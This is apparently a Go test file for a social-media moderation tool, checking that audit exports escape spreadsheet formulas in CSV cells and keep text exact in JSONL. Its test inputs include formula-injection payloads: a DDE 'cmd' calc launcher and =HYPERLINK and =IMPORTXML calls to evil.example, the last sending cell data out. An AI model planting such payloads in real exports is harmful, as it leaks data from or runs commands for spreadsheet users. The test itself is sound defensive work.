package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"testing"
	"time"

	"github.com/strazh/strazh/moderation"
)

func TestCSVCell_Formulas(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=HYPERLINK(\"http://evil.example\",\"жми\")", "'=HYPERLINK(\"http://evil.example\",\"жми\")"},
		{"+7 900 000-00-00", "'+7 900 000-00-00"},
		{"-2+3", "'-2+3"},
		{"-123456", "-123456"}, // a VK community's author ID stays a number
		{"-1e2", "-1e2"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r'=1+1"}, // the part after the CR starts a row in Excel's Russian locale
		{"", ""},
		{"Когда починят дорогу? 2+2=4", "Когда починят дорогу? 2+2=4"},
		{"'уже с кавычкой", "'уже с кавычкой"},
		// Excel in a Russian locale splits at ';' and ends the row at a line break.
		{"ок;=cmd|' /C calc'!A0", "ок;'=cmd|' /C calc'!A0"},
		{"ок;;@SUM(A1)", "ок;;'@SUM(A1)"},
		{"строка, вторая\n=HYPERLINK(1)", "строка, вторая\n'=HYPERLINK(1)"},
		{"а\r\n+7 900", "а\r\n'+7 900"},
		{"=1;=2", "'=1;'=2"},
		{"-5;-6", "-5;-6"},
		{"да;\t=1", "да;'\t=1"},
		{"; - список", "; - список"},
		{"а;-", "а;'-"},
	}
	for _, tt := range tests {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriteAudit_CSV_NoLiveFormulas(t *testing.T) {
	d := &moderation.Decision{ID: 7, DecidedAt: time.Unix(1_700_000_000, 0).UTC(), Verdict: moderation.Review, DecidedBy: "auto",
		Comment: moderation.Comment{Network: "vk", Account: "admin-vk", ID: "vk:admin-vk:1", Kind: moderation.KindWallComment,
			Author: moderation.Author{ID: "42", Name: "@Администратор"},
			Text:   "=IMPORTXML(\"http://evil.example/?\"&A1,\"//a\")"}}
	each := func(fn func(*moderation.Decision) error) error { return fn(d) }
	var out bytes.Buffer
	if err := writeAudit(&out, "csv", each); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv: %d rows, %v", len(rows), err)
	}
	head, row := rows[0], rows[1]
	for i, cell := range row {
		if cell != "" && (cell[0] == '=' || cell[0] == '+' || cell[0] == '-' || cell[0] == '@' || cell[0] == '\t' || cell[0] == '\r') {
			t.Errorf("column %s = %q: a spreadsheet runs it", head[i], cell)
		}
	}
	field := func(name string) string {
		for i, h := range head {
			if h == name {
				return row[i]
			}
		}
		t.Fatalf("no column %s", name)
		return ""
	}
	if got := field("text"); got != "'"+d.Comment.Text {
		t.Errorf("text = %q", got)
	}
	if got := field("author_name"); got != "'@Администратор" {
		t.Errorf("author_name = %q", got)
	}
	// JSONL is data for programs: the text stays exact.
	out.Reset()
	if err := writeAudit(&out, "jsonl", each); err != nil {
		t.Fatal(err)
	}
	var rec auditRecord
	if err := json.Unmarshal(out.Bytes(), &rec); err != nil || rec.Text != d.Comment.Text || rec.AuthorName != d.Comment.Author.Name {
		t.Errorf("jsonl = %+v, %v", rec, err)
	}
}
